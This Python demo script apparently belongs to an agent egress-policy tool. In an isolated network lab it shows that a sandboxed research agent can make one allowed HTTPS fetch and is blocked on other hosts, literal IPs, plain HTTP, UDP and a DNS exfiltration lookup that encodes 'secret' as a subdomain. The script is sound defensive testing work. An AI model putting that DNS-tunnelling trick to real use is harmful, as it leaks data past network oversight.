"""The demo's network part: the research agent example under its policy, in a network lab of
namespaces built for the demo (nothing on the machine's own namespace changes): an allowed HTTPS
fetch, then a denied name, a literal address, plain HTTP, DNS exfiltration and UDP, then the audit
trail the egress filter left. Run by scripts/demo.sh (as root)."""

from __future__ import annotations

import os
import subprocess
import sys
import tempfile
from pathlib import Path

REPO = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(REPO))

from tests.helpers.netlab import NetLab  # noqa: E402

POLICY = REPO / "policies" / "examples" / "research-agent.adl.json"
AGENT = """
import socket, ssl, urllib.request
context = ssl.create_default_context(cafile="/tmp/research/lab-ca.pem")
def attempt(what, fn):
    try:
        print(f"  allowed  {what}: {fn()}")
    except Exception as exc:
        print(f"  DENIED   {what}: {type(exc).__name__}: {getattr(exc, 'reason', exc)}")
def get(url):
    return urllib.request.urlopen(url, timeout=3, context=context).read().decode().strip()
def udp():
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("198.51.100.20", 443))
    return "sent (and dropped by the namespace's rules)"
attempt("https://en.wikipedia.example.test/ (allowed host)", lambda: get("https://en.wikipedia.example.test/"))
attempt("https://other.example.test/ (not in allowed_hosts)", lambda: get("https://other.example.test/"))
attempt("https://198.51.100.11/ (a literal address)", lambda: get("https://198.51.100.11/"))
attempt("http://en.wikipedia.example.test/ (plain HTTP, port 80)", lambda: get("http://en.wikipedia.example.test/"))
exfil = "c2VjcmV0.en.wikipedia.example.test"
attempt(f"DNS exfiltration via {exfil}", lambda: socket.getaddrinfo(exfil, 443))
attempt("QUIC / UDP to 198.51.100.20:443", udp)
"""


def main() -> int:
    if os.geteuid() != 0:
        print("demo_network: needs root (network namespaces)", file=sys.stderr)
        return 1
    Path("/tmp/research").mkdir(exist_ok=True)
    with tempfile.TemporaryDirectory(prefix="adl-demo-lab-") as tmp:
        lab = NetLab(Path(tmp))
        try:
            lab.start()
            (Path("/tmp/research") / "lab-ca.pem").write_bytes(lab.cert.read_bytes())
            env = {**os.environ, **lab.env()}
            user = os.environ.get("ADL_DEMO_USER", "nobody")  # the agent never runs as root
            argv = [*lab.wrap(), str(REPO / ".venv/bin/adl-exec"), "--adl", str(POLICY), "--user", user]
            argv += ["--report", "--"]
            shown = f"adl-exec --adl {POLICY.relative_to(REPO)} --user {user} --report -- python3 agent.py"
            print(f"$ {shown}   (in the lab)")
            subprocess.run([*argv, "python3", "-c", AGENT], env=env, timeout=120, check=False)
        finally:
            lab.stop()
    return 0


if __name__ == "__main__":
    sys.exit(main())
